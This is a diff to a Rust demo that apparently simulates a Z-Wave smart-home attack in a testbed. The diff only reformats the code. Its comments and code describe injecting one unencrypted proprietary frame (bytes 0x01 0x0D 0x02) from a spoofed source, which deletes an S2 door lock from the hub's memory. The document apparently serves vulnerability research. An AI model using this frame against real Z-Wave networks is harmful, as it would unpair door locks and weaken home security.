@@ -17,7 +17,10 @@ use zcover_suite::zwave_controller::HostState;
 
 fn main() {
     let mut home = Testbed::new(DeviceModel::D6, 7);
-    println!("smart home: {} hub + S2 door lock (node 0x02) + legacy switch (node 0x03)", home.controller().config().brand);
+    println!(
+        "smart home: {} hub + S2 door lock (node 0x02) + legacy switch (node 0x03)",
+        home.controller().config().brand
+    );
     println!("door lock paired with Security 2; hub memory:\n{}", home.controller().nvm().dump());
 
     // (1) The attacker scans all Z-Wave network traffic from 70 m away.
@@ -38,7 +41,12 @@ fn main() {
     // (4) One unencrypted proprietary frame (CMDCL 0x01, CMD 0x0D with a
     // truncated registration) deletes the lock from the hub's memory.
     let mut dongle = Dongle::attach(home.medium(), 70.0);
-    dongle.inject_apl(scan.home_id, scan.spoof_source(), scan.controller, vec![0x01, 0x0D, LOCK_NODE.0]);
+    dongle.inject_apl(
+        scan.home_id,
+        scan.spoof_source(),
+        scan.controller,
+        vec![0x01, 0x0D, LOCK_NODE.0],
+    );
     home.pump();
 
     println!("\nattacker injected [0x01 0x0D 0x02] — unencrypted, CS-8 valid");
